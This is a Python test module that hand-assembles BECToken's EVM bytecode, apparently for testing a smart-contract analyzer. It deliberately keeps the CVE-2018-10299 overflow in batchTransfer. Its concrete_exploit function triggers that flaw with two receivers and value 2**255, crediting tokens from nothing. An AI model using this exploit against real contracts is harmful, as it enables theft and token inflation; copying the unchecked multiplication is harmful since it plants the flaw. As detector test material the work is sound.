"""BECToken (solidity_examples/BECToken.sol) as EVM bytecode, assembled here --
TEST INFRASTRUCTURE, the C3 case (BASELINE configs[2]).

There is no solc in this image (and BECToken needs solc 0.4.x), so this module
writes the contract the way solc 0.4 lays one out and assembles it with
tests/killbilly.py's two-pass assembler: a constructor (Ownable's owner =
msg.sender, paused = false, decimals = 18, totalSupply = 7e9 * 10**decimals,
balances[msg.sender] = totalSupply), a dispatcher of PUSH4 <selector> EQ
PUSH2 <entry> JUMPI rows over the selector solc 0.4 extracts with
DIV 2**224 / AND 0xffffffff, a call-value check per function, and the
storage layout of the inheritance chain (C3 linearisation, most base first):
slot 0 totalSupply (ERC20Basic), slot 1 balances (BasicToken: balances[a] at
keccak256(pad32(a) . pad32(1))), slot 2 allowed (StandardToken), slot 3
owner (Ownable, low 20 bytes) and paused (Pausable, byte 20), slot 7 decimals
(BecToken; the name / symbol / version strings at slots 4-6 are not
written -- "vanities", BECToken.sol:276-283, read by nothing here).
SafeMath's sub / add asserts are INVALID (0xfe) as in solc 0.4; requires
REVERT.  The functions, with the source's semantics (BECToken.sol:39-266):

* totalSupply(), balanceOf(address), paused(), owner(): the getters;
* transfer(address,uint256) whenNotPaused (BasicToken.transfer, :109-118);
* batchTransfer(address[],uint256) whenNotPaused (:255-266): the array
  copied from calldata to memory, ``amount = uint256(cnt) * _value`` -- the
  multiplication that overflows (CVE-2018-10299) -- then the requires, the
  SafeMath sub, the loop of SafeMath adds and Transfer events;
* pause() / unpause() onlyOwner (:206-221);
* the fallback reverts (:293-296).
"""
from __future__ import annotations

from typing import List

from killbilly import Item, assemble, selector
from mythril_amd.keccak import keccak256

SIGNATURES = ["totalSupply()", "balanceOf(address)", "transfer(address,uint256)",
              "batchTransfer(address[],uint256)", "paused()", "owner()", "pause()", "unpause()"]
ENTRIES = {"totalSupply()": "get_total", "balanceOf(address)": "get_balance",
           "transfer(address,uint256)": "transfer", "batchTransfer(address[],uint256)": "batch",
           "paused()": "get_paused", "owner()": "get_owner", "pause()": "pause", "unpause()": "unpause"}
ADDR = (1 << 160) - 1
PAUSED_BYTE = 0xFF << 160
TRANSFER_TOPIC = int.from_bytes(keccak256(b"Transfer(address,address,uint256)"), "big")
PAUSE_TOPIC = int.from_bytes(keccak256(b"Pause()"), "big")
UNPAUSE_TOPIC = int.from_bytes(keccak256(b"Unpause()"), "big")


def _nonpayable(fn: str) -> List[Item]:
    return [("LABEL", fn), "CALLVALUE", "DUP1", "ISZERO", ("PUSH2", f"@{fn}_ok"), "JUMPI",
            ("PUSH1", 0), "DUP1", "REVERT", ("LABEL", f"{fn}_ok"), "POP"]


def _balance_slot() -> List[Item]:
    """keccak256(pad32(stack top) . pad32(1)): balances[key] (consumes the key)."""
    return [("PUSH1", 0), "MSTORE", ("PUSH1", 1), ("PUSH1", 0x20), "MSTORE", ("PUSH1", 0x40), ("PUSH1", 0), "SHA3"]


def _sub_checked(tag: str) -> List[Item]:
    """[a, b] -> [a - b]; assert(b <= a) (SafeMath.sub, :26-29)."""
    return ["DUP2", "DUP2", "GT", "ISZERO", ("PUSH2", f"@{tag}"), "JUMPI", "INVALID", ("LABEL", tag),
            "SWAP1", "SUB"]


def _add_checked(tag: str) -> List[Item]:
    """[a, b] -> [a + b]; assert(c >= a) (SafeMath.add, :31-35)."""
    return ["DUP2", "ADD", "DUP1", "DUP3", "GT", "ISZERO", ("PUSH2", f"@{tag}"), "JUMPI", "INVALID",
            ("LABEL", tag), "SWAP1", "POP"]


def _when_not_paused() -> List[Item]:
    return [("PUSH1", 3), "SLOAD", ("PUSH21", 1 << 160), "SWAP1", "DIV", ("PUSH1", 0xFF), "AND",
            "ISZERO", "ISZERO", ("PUSH2", "@revert"), "JUMPI"]


def _only_owner() -> List[Item]:
    return [("PUSH1", 3), "SLOAD", ("PUSH20", ADDR), "AND", "CALLER", "EQ", "ISZERO", ("PUSH2", "@revert"),
            "JUMPI"]


def _return_word() -> List[Item]:
    """return the stack top as one word (at the free memory pointer)."""
    return [("PUSH1", 0x40), "MLOAD", "SWAP1", "DUP2", "MSTORE", ("PUSH1", 0x20), "SWAP1", "RETURN"]


def runtime() -> bytes:
    items: List[Item] = [("PUSH1", 0x80), ("PUSH1", 0x40), "MSTORE",
                         ("PUSH1", 4), "CALLDATASIZE", "LT", ("PUSH2", "@fallback"), "JUMPI",
                         ("PUSH1", 0), "CALLDATALOAD", ("PUSH29", 1 << 224), "SWAP1", "DIV",
                         ("PUSH4", 0xFFFFFFFF), "AND"]
    for s in SIGNATURES:
        items += ["DUP1", ("PUSH4", selector(s)), "EQ", ("PUSH2", "@" + ENTRIES[s]), "JUMPI"]
    items += [("LABEL", "fallback"), ("PUSH1", 0), "DUP1", "REVERT"]
    items += [("LABEL", "revert"), ("PUSH1", 0), "DUP1", "REVERT"]
    # getters
    items += _nonpayable("get_total") + [("PUSH1", 0), "SLOAD"] + _return_word()
    items += _nonpayable("get_balance") + [("PUSH1", 4), "CALLDATALOAD", ("PUSH20", ADDR), "AND"] + \
        _balance_slot() + ["SLOAD"] + _return_word()
    items += _nonpayable("get_paused") + [("PUSH1", 3), "SLOAD", ("PUSH21", 1 << 160), "SWAP1", "DIV",
                                          ("PUSH1", 0xFF), "AND", "ISZERO", "ISZERO"] + _return_word()
    items += _nonpayable("get_owner") + [("PUSH1", 3), "SLOAD", ("PUSH20", ADDR), "AND"] + _return_word()
    # transfer(address _to, uint256 _value) public whenNotPaused (BasicToken.transfer)
    items += _nonpayable("transfer") + [
        ("PUSH1", 4), "CALLDATALOAD", ("PUSH20", ADDR), "AND", ("PUSH1", 0x24), "CALLDATALOAD"]  # [to, value]
    items += _when_not_paused()
    items += ["DUP2", ("PUSH20", ADDR), "AND", "ISZERO", ("PUSH2", "@revert"), "JUMPI",       # _to != 0
              "DUP1", "ISZERO", ("PUSH2", "@revert"), "JUMPI",                                  # _value > 0
              "CALLER"] + _balance_slot() + ["SLOAD", "DUP2", "GT", ("PUSH2", "@revert"), "JUMPI",  # <= balance
              "CALLER"] + _balance_slot() + ["DUP1", "SLOAD", "DUP3"] + _sub_checked("t_sub") + ["SWAP1", "SSTORE",
              "DUP2"] + _balance_slot() + ["DUP1", "SLOAD", "DUP3"] + _add_checked("t_add") + ["SWAP1", "SSTORE",
              ("PUSH1", 0x40), "MLOAD", "DUP2", "DUP2", "MSTORE",                              # Transfer event
              "DUP3", "CALLER", ("PUSH32", TRANSFER_TOPIC), ("PUSH1", 0x20), "DUP5", "LOG3",
              "POP", "POP", "POP", ("PUSH1", 1)] + _return_word()
    # batchTransfer(address[] _receivers, uint256 _value) public whenNotPaused
    items += _nonpayable("batch") + [
        ("PUSH1", 4), "CALLDATALOAD", ("PUSH1", 4), "ADD",                  # p: the length's calldata offset
        "DUP1", "CALLDATALOAD",                                              # [p, len]
        ("PUSH1", 0x40), "MLOAD",                                            # [p, len, ptr]
        "DUP2", "DUP2", "MSTORE",                                            # mem[ptr] = len
        "DUP2", ("PUSH1", 0x20), "MUL", "DUP2", "ADD", ("PUSH1", 0x20), "ADD", ("PUSH1", 0x40), "MSTORE",
        "DUP2", ("PUSH1", 0x20), "MUL", "DUP4", ("PUSH1", 0x20), "ADD", "DUP3", ("PUSH1", 0x20), "ADD",
        "CALLDATACOPY",                                                      # the elements
        "SWAP2", "POP", "POP",                                               # [ptr]
        ("PUSH1", 0x24), "CALLDATALOAD"]                                     # [ptr, value]
    items += _when_not_paused()
    items += ["DUP2", "MLOAD",                                               # cnt = _receivers.length
              "DUP2", "DUP2", "MUL",                                         # amount = uint256(cnt) * _value
              "DUP2", "ISZERO", ("PUSH2", "@revert"), "JUMPI",               # cnt > 0
              ("PUSH1", 20), "DUP3", "GT", ("PUSH2", "@revert"), "JUMPI",    # cnt <= 20
              "DUP3", "ISZERO", ("PUSH2", "@revert"), "JUMPI",               # _value > 0
              "CALLER"] + _balance_slot() + ["SLOAD", "DUP2", "GT", ("PUSH2", "@revert"), "JUMPI",  # balance >= amount
              "CALLER"] + _balance_slot() + ["DUP1", "SLOAD", "DUP3"] + _sub_checked("b_sub") + ["SWAP1", "SSTORE",
              "POP", ("PUSH1", 0),                                           # [ptr, value, cnt, i]
              ("LABEL", "loop"), "DUP2", "DUP2", "LT", "ISZERO", ("PUSH2", "@done"), "JUMPI",
              "DUP1", ("PUSH1", 0x20), "MUL", "DUP5", "ADD", ("PUSH1", 0x20), "ADD", "MLOAD",
              ("PUSH20", ADDR), "AND",                                       # r = _receivers[i]
              "DUP1"] + _balance_slot() + ["DUP1", "SLOAD", "DUP6"] + _add_checked("b_add") + ["SWAP1", "SSTORE",
              ("PUSH1", 0x40), "MLOAD", "DUP5", "DUP2", "MSTORE",            # Transfer(msg.sender, r, _value)
              "DUP2", "CALLER", ("PUSH32", TRANSFER_TOPIC), ("PUSH1", 0x20), "DUP5", "LOG3",
              "POP", "POP", ("PUSH1", 1), "ADD", ("PUSH2", "@loop"), "JUMP",
              ("LABEL", "done"), "POP", "POP", "POP", "POP", ("PUSH1", 1)] + _return_word()
    # pause() onlyOwner whenNotPaused / unpause() onlyOwner whenPaused
    items += _nonpayable("pause") + _only_owner() + _when_not_paused() + [
        ("PUSH1", 3), "SLOAD", ("PUSH21", PAUSED_BYTE), "NOT", "AND", ("PUSH21", 1 << 160), "OR", ("PUSH1", 3),
        "SSTORE", ("PUSH32", PAUSE_TOPIC), ("PUSH1", 0), "DUP1", "LOG1", "STOP"]
    items += _nonpayable("unpause") + _only_owner() + [
        ("PUSH1", 3), "SLOAD", ("PUSH21", 1 << 160), "SWAP1", "DIV", ("PUSH1", 0xFF), "AND", "ISZERO",
        ("PUSH2", "@revert"), "JUMPI",
        ("PUSH1", 3), "SLOAD", ("PUSH21", PAUSED_BYTE), "NOT", "AND", ("PUSH1", 3), "SSTORE",
        ("PUSH32", UNPAUSE_TOPIC), ("PUSH1", 0), "DUP1", "LOG1", "STOP"]
    return assemble(items)


def creation() -> bytes:
    rt = runtime()
    head: List[Item] = [("PUSH1", 0x80), ("PUSH1", 0x40), "MSTORE",
                        "CALLVALUE", "DUP1", "ISZERO", ("PUSH2", "@ok"), "JUMPI", ("PUSH1", 0), "DUP1", "REVERT",
                        ("LABEL", "ok"), "POP",
                        # Ownable: owner = msg.sender; Pausable: paused = false
                        ("PUSH1", 3), "SLOAD", ("PUSH20", ADDR), "NOT", "AND", "CALLER", "OR", ("PUSH1", 3), "SSTORE",
                        ("PUSH1", 3), "SLOAD", ("PUSH21", PAUSED_BYTE), "NOT", "AND", ("PUSH1", 3), "SSTORE",
                        # decimals = 18
                        ("PUSH1", 7), "SLOAD", ("PUSH1", 0xFF), "NOT", "AND", ("PUSH1", 18), "OR", ("PUSH1", 7),
                        "SSTORE",
                        # totalSupply = 7000000000 * (10 ** uint256(decimals))
                        ("PUSH1", 7), "SLOAD", ("PUSH1", 0xFF), "AND", ("PUSH1", 10), "EXP",
                        ("PUSH5", 7_000_000_000), "MUL", ("PUSH1", 0), "SSTORE",
                        # balances[msg.sender] = totalSupply
                        ("PUSH1", 0), "SLOAD", "CALLER"] + _balance_slot() + ["SSTORE",
                        ("PUSH2", len(rt)), "DUP1", ("PUSH2", 0), ("PUSH1", 0), "CODECOPY", ("PUSH1", 0), "RETURN"]
    n = len(assemble(head))
    head[-5] = ("PUSH2", n)
    return assemble(head) + rt


def mul_address() -> int:
    """Byte address of batchTransfer's ``uint256(cnt) * _value`` in the runtime code."""
    from mythril_amd.laser.disassembly import Disassembly
    d = Disassembly(runtime())
    il = d.instruction_list
    ops = [i["opcode"] for i in il]
    k = next(k for k in range(len(ops) - 3) if ops[k:k + 4] == ["MLOAD", "DUP2", "DUP2", "MUL"])
    return il[k + 3]["address"]


def batch_transfer_calldata(receivers, value: int) -> bytes:
    """ABI: batchTransfer(address[] _receivers, uint256 _value)."""
    head = selector("batchTransfer(address[],uint256)").to_bytes(4, "big")
    words = [0x40, value, len(receivers)] + list(receivers)
    return head + b"".join(w.to_bytes(32, "big") for w in words)


def balance_slot(address: int) -> int:
    return int.from_bytes(keccak256(address.to_bytes(32, "big") + (1).to_bytes(32, "big")), "big")


def concrete_exploit(dev):
    """CVE-2018-10299 as one concrete transaction: the attacker (no tokens)
    calls batchTransfer([r1, r2], 2**255); cnt * _value wraps to 0, every
    require passes, and each receiver is credited 2**255.  Returns the storage
    of the token account after the call (one open world state)."""
    from creation_util import ATTACKER, CREATOR
    from mythril_amd.laser import (Account, LaserEVM, WorldState, execute_contract_creation,
                                   execute_message_call, generate_contract_address)
    ws = WorldState()
    creator = Account(CREATOR, concrete_storage=True)
    creator.set_balance(10 ** 20)
    ws.put_account(creator)
    vm = LaserEVM(requires_statespace=False, device=dev)
    vm.open_states = [ws]
    address = generate_contract_address(CREATOR, 0)
    execute_contract_creation(vm, None, CREATOR, CREATOR, creation(), gas_limit=8_000_000, gas_price=1, value=0,
                              track_gas=True)
    data = batch_transfer_calldata([0xA11CE, 0xB0B], 1 << 255)
    execute_message_call(vm, callee_address=address, caller_address=ATTACKER, origin_address=ATTACKER, data=data,
                         gas_limit=8_000_000, gas_price=1, value=0, track_gas=True)
    assert len(vm.open_states) == 1, len(vm.open_states)
    return sorted(vm.open_states[0][address].storage.items())
